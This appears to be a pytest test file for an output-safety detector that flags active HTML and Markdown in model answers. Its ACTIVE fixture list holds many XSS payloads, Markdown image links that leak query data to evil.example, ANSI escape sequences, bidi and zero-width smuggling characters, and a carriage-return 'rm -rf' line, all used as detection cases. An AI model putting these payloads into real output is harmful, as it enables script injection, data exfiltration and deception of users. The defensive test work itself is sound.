"""markup finds what acts where it is shown, and leaves ordinary Markdown answers alone, code about HTML included."""

from __future__ import annotations

import time
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from evalgate.core.errors import BadInput
from evalgate.core.values import Case, Output
from evalgate.safety.markdown_code import without_code
from evalgate.safety.markup_text import RULES, make_markup
from evalgate.testing.detector_laws import check_detector

CASE = Case("1", {}, {}, (), {})


def found(text: str, **parameters: Any) -> list[tuple[str, str]]:
    return [(f.rule, text[f.start : f.end]) for f in make_markup(parameters).findings(Output(text), CASE)]


def rules(text: str, **parameters: Any) -> list[str]:
    return sorted({rule for rule, _ in found(text, **parameters)})


ACTIVE = [
    ("<script>alert(1)</script>", ["script"]),
    ("<ScRiPt src=//evil.example/x.js>", ["script"]),
    ("<script\n>", ["script"]),
    ("<script/x>", ["script"]),
    ("</script>", ["script"]),
    ("<x:script xmlns:x='http://www.w3.org/1999/xhtml'>", ["script"]),
    ("<img src=x onerror=alert(1)>", ["event_handler"]),
    ("<img/src=x/onerror=alert(1)>", ["event_handler"]),
    ('<img src="x"onerror=alert(1)>', ["event_handler"]),
    ('<img src=x" onerror=alert(1)>', ["event_handler"]),
    ('<b title=">" onmouseover="alert(1)">', ["event_handler"]),
    ("<body\nonload = alert(1)>", ["event_handler"]),
    ("<details open ontoggle=alert(1)", ["event_handler"]),
    ("<svg onload=alert(1)>", ["event_handler", "svg"]),
    ("<math><mi>x</mi></math>", ["svg"]),
    ("<iframe src='https://evil.example'></iframe>", ["embed"]),
    ("<object data=x.swf></object>", ["embed"]),
    ("<embed src=x>", ["embed"]),
    ("<meta http-equiv=refresh content='0;url=https://evil.example'>", ["document"]),
    ("<base href='https://evil.example/'>", ["document"]),
    ("<link rel=stylesheet href=//evil.example/a.css>", ["document"]),
    ("<form action='https://evil.example/'><input name=q>", ["form"]),
    ("<button formaction=x>", ["form"]),
    ("<a href='javascript:alert(1)'>x</a>", ["script_url"]),
    ("<a href=\" java\tscript:alert(1)\">x</a>", ["script_url"]),
    ("<a href='&#x6A;avascript&colon;alert(1)'>x</a>", ["script_url"]),
    ("[x](javascript:alert(1))", ["script_url"]),
    ("[x](<data:text/html;base64,PHNjcmlwdD4=>)", ["script_url"]),
    ("[x]: vbscript:x", ["script_url"]),
    ("![x](data:image/svg+xml;base64,PHN2Zz4=)", ["script_url"]),
    ("<p style='background:url(https://evil.example/?q=1)'>", ["style"]),
    ('<p style="width:expr/**/ession(alert(1))">', ["style"]),
    ("<p style='background:u\\72l(//evil.example)'>", ["style"]),
    ("<style>@import '//evil.example/a.css';</style>", ["style"]),
    ("<img src='https://evil.example/?", ["dangling"]),
    ("![a](https://evil.example/p.png?q=secret)", ["image_payload"]),
    ("![a [b]](<https://evil.example/?q=a b>)", ["image_payload"]),
    ("![a](//evil.example/p?q=1 'title')", ["image_payload"]),
    ("![a](https://evil.example/" + "c2VjcmV0" * 6 + ")", ["image_payload"]),
    ("![a][Ref]\n\n[ref]: https://evil.example/?q=1", ["image_payload"]),
    ("![ref]\n\n[REF]:\n https://evil.example/?q=1", ["image_payload"]),
    ("[![a](https://evil.example/?q=1)](https://good.example)", ["image_payload"]),
    ("<img alt='>' src='https://evil.example/?q=1'>", ["image_payload"]),
    ("<video poster=https://evil.example/?q=1>", ["image_payload"]),
    ("a\x1b[31mred\x1b[0m", ["ansi_escape"]),
    ("a\x1b]8;;https://evil.example\x07link\x1b]8;;\x07", ["ansi_escape"]),
    ("a\x9b2J", ["ansi_escape"]),
    ("a\x1bc", ["ansi_escape"]),
    ("a\x08\x08b", ["control"]),
    ("a\x00b", ["control"]),
    ("safe\rrm -rf", ["control"]),
    ("a\x85b", ["control"]),
    ("a\u202egpj.exe", ["bidi"]),
    ("a\u2066b\u2069", ["bidi"]),
    ("a\U000e0068\U000e0069", ["tag_characters"]),
    ("a\u200b\u200c\u200b", ["zero_width"]),
    ("a" + "\ufe01\ufe0e\ufe05" + "b", ["zero_width"]),
    ("a\U000e0101\U000e0102", ["zero_width"]),
    ("\u200b".join("seventeen letters apart"), ["zero_width"]),
]  # fmt: skip


@pytest.mark.parametrize(("text", "expected"), ACTIVE)
def test_what_acts_is_found(text: str, expected: list[str]) -> None:
    assert rules(text) == expected
    assert rules(f"So:\n\n{text}") == expected


INERT = [
    "",
    "# Title\n\n- one\n- two\r\n\n1. **bold** _it_ ~~no~~ | a | b |\n|---|---|\n> quote\n\n---\n",
    "a < b and c > d, x<y>z, 3 <4, List<String>, <- arrow, 1 << 3, <3",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<b>bold</b> <br> <sub>2</sub> <a href='https://example.org/?a=b'>x</a> <p style='color:red'>y</p> <!-- note -->",
    "<table><tr><td align=left>1</td></tr></table><details><summary>More</summary>text</details>",
    "[link](https://example.org/search?q=a+b+c) and [ref][1]\n\n[1]: https://example.org/?q=1",
    "![logo](https://example.org/logo.png) ![local](img/a.png?raw=true) ![x](data:image/png;base64,iVBORw0KGgo=)",
    "![a](x.png) and [b](https://example.org/?q=1)",
    "![a\n\nb](https://example.org/?q=1)",
    "Use the `<script>` tag, or ``<img onerror=`x`>`` and `![a](https://h.example/?q=1)`.",
    "```html\n<script src=\"a.js\"></script>\n<form action=\"/x\" onsubmit=\"go()\">\n```\nThat is all.",
    "~~~\n<iframe src='x'></iframe>\n~~~\n",
    "1. Do:\n   ```js\n   el.innerHTML = '<img src=x onerror=go()>';\n\n   done()\n   ```\n2. Done <https://example.org>",
    "JavaScript: the good parts; data: the numbers; on = 3; style=url(x)",
    "سلام\u200cعلیکم and क्\u200dष and ❤\ufe0f 👩\u200d💻 👁\ufe0f\u200d🗨\ufe0f 1\ufe0f\u20e3",
    "\ufeffA mark at the start, a soft hy\u00adphen, one\u200bspace, a \u200fright mark",
    "ภาษา\u200bไทย" * 20,
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "Tab\there, line\nthere, \u201cquotes\u201d \u2014 dashes\u2026 100 % \u20ac 漢字 \u3000 한글",
]  # fmt: skip


@pytest.mark.parametrize("text", INERT)
def test_what_does_nothing_is_left_alone(text: str) -> None:
    assert found(text) == []


def test_code_counts_when_asked_for() -> None:
    text = "Use the `<script>` tag.\n```html\n<form>\n```\n"
    assert found(text, code=True) == [("script", "<script>"), ("form", "<form>")]
    assert rules("`a\x1b[1m`") == ["ansi_escape"]


NOT_CODE = [
    "`\n\n<script>`",
    "`\n<script>\n`",
    "\\`<script>`",
    "``<script>`",
    "| ` | <script> | ` |",
    "<div>\n`<script>`\n</div>",
    "<div>\n```\n<script>\n```\n</div>",
    "<img title='`' onerror=go()>`",
    "<!--\n```\n--><script>\n```",
    "```\n<script>",
    "``` `\n<script>\n```",
    "> ```\n<script>\n```",
    "- a\n  ```\n<script>\n  ```",
    "text\n     ```\n<script>\n     ```",
    "```\na\n```\n<script>\n```\nb\n```",
    "~~~\na\n```\n~~~\n<script>\n```",
    "````\na\n```\n````\n<script>",
    "```\na\n    ```\n```\n<script>\n```",
]


@pytest.mark.parametrize("text", NOT_CODE)
def test_what_only_looks_like_code_is_looked_at(text: str) -> None:
    assert {"script", "event_handler"} & set(rules(text))


def test_code_is_blanked_in_place() -> None:
    text = "a `b` <https://h.example>\n```\nc\nd\n```\n"
    assert without_code(text) == "a ` ` <https://h.example>\n```\n \n \n```\n"


def test_parameters() -> None:
    detector = make_markup({"category": "output", "severity": "low"})
    (finding,) = detector.findings(Output("<script>"), CASE)
    assert (finding.category, finding.severity, detector.spec.sensitive) == ("output", "low", False)
    image = "![a](https://cdn.example.org/a.png?w=640)"
    assert rules(image) == ["image_payload"]
    assert rules(image, hosts=[".example.org"]) == rules(image, ignore=["image_payload"]) == []
    assert rules("![a](https://cdn.example.org@evil.example/?q=1)", hosts=[".example.org"]) == ["image_payload"]
    kinds: list[dict[str, Any]] = [{}, {"code": True}, {"hosts": ["a.example"]}, {"ignore": ["svg"]}]
    assert len({make_markup(kind).spec.signature for kind in kinds}) == len(kinds)
    assert {rule for _, found_rules in ACTIVE for rule in found_rules} == set(RULES)


@pytest.mark.parametrize(
    ("parameters", "said"),
    [
        ({"code": "yes"}, "true or false"),
        ({"hosts": ["https://a.example"]}, "no host"),
        ({"hosts": [1]}, "no host"),
        ({"ignore": ["scripts"]}, "cannot hold"),
        ({"ignored": []}, "did you mean ignore"),
        ({"severity": 1}, "severity"),
    ],
)
def test_bad_parameters_are_refused(parameters: dict[str, Any], said: str) -> None:
    with pytest.raises(BadInput, match=said):
        make_markup(parameters)


@given(st.text(st.sampled_from("<script>/='\"`~![](): \n|\\&;on\u200b\x1b"), max_size=60))
@settings(max_examples=300)
def test_any_text_keeps_its_length_and_order(text: str) -> None:
    assert len(without_code(text)) == len(text)
    findings = make_markup({}).findings(Output(text), CASE)
    assert all(0 <= f.start < f.end <= len(text) for f in findings)
    assert set(findings) <= set(make_markup({"code": True}).findings(Output(text), CASE))


@pytest.mark.parametrize(
    "piece",
    [
        "<",
        "<a ",
        '<a ="',
        "<a x='",
        "<img src=",
        "![",
        "![a](",
        "]",
        "`",
        "`` ",
        "\\`",
        "```\n",
        "<style>",
        "\x1b[",
        "\u200b",
        "\u200ba",
        "a](",
        "[x]: ",
        "<p style=/*",
        "/*",
    ],
)
def test_hostile_texts_take_linear_time(piece: str) -> None:
    detector = make_markup({})
    text = piece * (100_000 // len(piece))
    started = time.process_time()
    detector.findings(Output(text), CASE)
    detector.findings(Output("<a href='" + text), CASE)
    detector.findings(Output(f"<p style='{piece.strip('<>')}*/{text}'>"), CASE)
    assert time.process_time() - started < 2


def test_the_laws_of_a_detector_hold() -> None:
    texts = [text for text, _ in ACTIVE] + INERT + NOT_CODE
    check_detector(make_markup({}), [Output(text) for text in texts], [CASE] * len(texts))
